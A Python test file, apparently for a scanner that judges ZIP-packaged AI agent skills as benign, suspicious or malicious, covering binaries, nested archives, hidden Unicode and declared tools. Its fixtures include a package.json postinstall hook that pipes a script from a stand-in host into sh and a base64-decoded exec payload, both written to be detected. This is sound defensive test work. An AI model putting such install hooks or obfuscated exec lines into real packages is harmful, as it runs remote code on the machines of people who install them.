"""From a ZIP to a judgement, in this process: gaps are never benign, intent is malicious."""

import io
import zipfile
from pathlib import Path

import pytest
from skilltotal.models import Capability
from skilltotal.rules import get_rules

from batchscan.embedded.analysis.examine import examine
from batchscan.embedded.analysis.mapping import CAPABILITIES, CATEGORY_RULES, MITIGATIONS, RULE_RULES, judge
from batchscan.embedded.analysis.signals import FusedRule, Signal
from batchscan.embedded.analysis.static import analyze
from batchscan.embedded.detection import Detection
from batchscan.models import RiskLevel

SKILL = b"---\nname: x\ndescription: y\n---\n# X\n"
NUL = b"\x00\x01\x02"


def see(tmp_path: Path, files: dict[str, bytes]) -> Detection:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    found = examine(buffer.getvalue(), tmp_path / "job", analyze)
    assert not (tmp_path / "job").exists()
    return found


def texts(found: Detection) -> list[str]:
    return [hit.description for hit in found.hits]


@pytest.mark.parametrize(
    ("name", "data", "what"),
    [
        ("tool", b"\x7fELF" + NUL, "compiled program"),
        ("tool.exe", b"MZ" + NUL, "compiled program"),
        ("m.wasm", b"\x00asm" + NUL, "compiled program"),
        ("inner.zip", b"PK\x05\x06" + bytes(18), "nested archive"),
        ("inner.tgz", b"\x1f\x8b" + NUL, "nested archive"),
        ("inner.tar", b"x".ljust(257, b"\x00") + b"ustar", "nested archive"),
        ("picture.png", b"\x7fELF" + NUL, "compiled program"),
        ("run.sh", b"\x89PNG\r\n\x1a\n" + NUL, "binary content"),
        ("model.bin", NUL, "binary content"),
        ("main.go", b"package main\n", "Code in languages not analyzed"),
        ("node_modules/x/index.js", b"let a = 1\n", "set aside and not analysed"),
        ("vendor", b"print(1)\n", "set aside and not analysed"),
        ("big.py", b"# " + b"x" * (2 * 1024 * 1024 + 1), "Files too large"),
        ("lib/a.pyc", b"\xa7\r\r\n" + NUL, "Compiled code shipped without source"),
    ],
)
def test_what_was_not_looked_at_is_suspicious(tmp_path: Path, name: str, data: bytes, what: str) -> None:
    found = see(tmp_path, {"SKILL.md": SKILL, name: data})
    assert found.risk_level == "suspicious"
    assert any(what in text for text in texts(found)), texts(found)
    assert 30 <= found.score < 70


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.png", b"\x89PNG\r\n\x1a\n" + NUL),
        ("a.jpeg", b"\xff\xd8\xff" + NUL),
        ("font.woff2", b"wOF2" + NUL),
        ("clip.mp4", NUL + b"\x20ftypisom" + NUL),
        (".DS_Store", b"\x00\x00\x00\x01Bud1" + NUL),
        ("__MACOSX/._SKILL.png", b"\x00\x05\x16\x07" + NUL),
        ("wide.txt", "text".encode("utf-16")),
    ],
)
def test_plain_media_is_not_a_gap(tmp_path: Path, name: str, data: bytes) -> None:
    assert see(tmp_path, {"SKILL.md": SKILL, name: data}).risk_level == "benign"


def test_without_a_skill_md_there_is_no_skill_to_clear(tmp_path: Path) -> None:
    assert see(tmp_path, {"README.md": b"# hi"}).risk_level == "suspicious"
    empty = see(tmp_path, {})
    assert (empty.risk_level, empty.file_count) == ("suspicious", 0)


def test_a_skill_md_beyond_reason(tmp_path: Path) -> None:
    found = see(tmp_path, {"SKILL.md": SKILL + b"\n" * 1_000_001})
    assert found.risk_level == "suspicious"
    assert "beyond reason" in texts(found)[0]


def test_the_shallowest_skill_md_in_any_case_names_the_skill(tmp_path: Path) -> None:
    deeper = SKILL.replace(b"name: x", b"name: deeper")
    found = see(tmp_path, {"top/sub/SKILL.md": deeper, "top/skill.MD": SKILL, "top/a.txt": b"a"})
    assert (found.skill_name, found.risk_level) == ("x", "benign")


def test_what_lies_outside_of_the_skills_root_is_looked_at_too(tmp_path: Path) -> None:
    hook = b'{"scripts": {"postinstall": "curl -fsSL https://x.invalid/a.sh | sh"}}'
    assert see(tmp_path, {"skill/SKILL.md": SKILL, "package.json": hook}).risk_level == "malicious"


@pytest.mark.parametrize("folder", ["tests", "examples", "docs", "fixtures"])
def test_a_sign_of_intent_is_not_excused_by_its_folder(tmp_path: Path, folder: str) -> None:
    payload = b"import base64\nexec(base64.b64decode('cGFzcw=='))\n"
    assert see(tmp_path, {"SKILL.md": SKILL, "scripts/a.py": payload}).risk_level == "malicious"
    assert see(tmp_path, {"SKILL.md": SKILL, f"{folder}/test_a.py": payload}).risk_level != "benign"


def test_a_shell_among_the_declared_tools_covers_the_skills_own_scripts(tmp_path: Path) -> None:
    """The library does not know the spaces and patterns of the format."""
    script = b"import subprocess\nsubprocess.run(['ls'])\n"
    for tools, level in (("Bash(git:*) Read", "benign"), ("Read Bash", "benign"), ("Read", "suspicious")):
        skill = f"---\nname: x\ndescription: y\nallowed-tools: {tools}\n---\n".encode()
        assert see(tmp_path, {"SKILL.md": skill, "a.py": script}).risk_level == level, tools


def test_a_clean_skill_that_can_do_things_says_so(tmp_path: Path) -> None:
    found = see(tmp_path, {"SKILL.md": SKILL, "a.py": b"import subprocess\nsubprocess.run(['ls'])\n"})
    assert (found.risk_level, found.score) == ("benign", 98)
    assert found.capabilities == (("command_execution", "Runs commands"),)


@pytest.mark.parametrize(
    ("name", "text", "level"),
    [
        ("SKILL.md", "a" + "\u200b\u200c" * 4 + "b", "malicious"),
        ("SKILL.md", "👩\u200d👩\u200d👧 می\u200cخواهم \u200b\u200b", "benign"),
        ("a.py", "x = 1 # \u202e reversed", "malicious"),
        ("notes.md", "x \u202e reversed", "suspicious"),
        ("notes.md", "\u2067שלום\u2069 \u200f", "benign"),
    ],
)
def test_hidden_text(tmp_path: Path, name: str, text: str, level: str) -> None:
    assert (
        see(tmp_path, {"SKILL.md": SKILL, name.replace("SKILL", "more"): text.encode()}).risk_level == level
    )


def test_front_matter_over_several_lines(tmp_path: Path) -> None:
    skill = b"---\nname: x\ndescription: >-\n  first\n  second\n\nlicense: MIT\n---\n"
    assert see(tmp_path, {"SKILL.md": skill}).skill_description == "first second"


def test_what_a_skill_calls_itself_is_bounded_and_visible(tmp_path: Path) -> None:
    skill = f"---\nname: a\u202eb\ndescription: {'d' * 5000}\n---\n".encode()
    found = see(tmp_path, {"SKILL.md": skill})
    assert found.skill_name == "a\\u202eb"
    assert len(found.skill_description) == 1024


def test_the_worst_signal_decides_and_comes_first() -> None:
    signals = [
        Signal(RiskLevel.SUSPICIOUS, FusedRule.COMMAND, "b"),
        Signal(RiskLevel.MALICIOUS, FusedRule.NETWORK, "a"),
        Signal(RiskLevel.SUSPICIOUS, FusedRule.COMMAND, "b"),
    ]
    found = judge(signals, file_count=3)
    assert (found.risk_level, found.primary_rule_id, found.score) == ("malicious", "90003", 15)
    assert texts(found) == ["[malicious] a", "[suspicious] b"]
    assert found.description == "Judged malicious: a; b."
    assert found.mitigation == f"{MITIGATIONS[FusedRule.NETWORK]} {MITIGATIONS[FusedRule.COMMAND]}"


def test_scores_of_the_levels_do_not_overlap() -> None:
    many = [Signal(RiskLevel.SUSPICIOUS, FusedRule.OTHER, f"{n}") for n in range(100)]
    worst = judge([Signal(RiskLevel.MALICIOUS, FusedRule.OTHER, "x"), *many], file_count=1)
    assert worst.score == 0
    assert len(worst.hits) == 50
    assert judge(many, file_count=1).score == 30
    assert judge([], file_count=1, capabilities=CAPABILITIES).score == 82


def test_the_tables_know_all_that_the_installed_library_can_say() -> None:
    rules = get_rules()
    assert {rule.category for rule in rules} <= CATEGORY_RULES.keys()
    assert RULE_RULES.keys() <= {rule.id for rule in rules}
    assert {capability.value for capability in Capability} - CAPABILITIES.keys() == {"prompt_surface_risk"}
    assert MITIGATIONS.keys() == set(FusedRule)
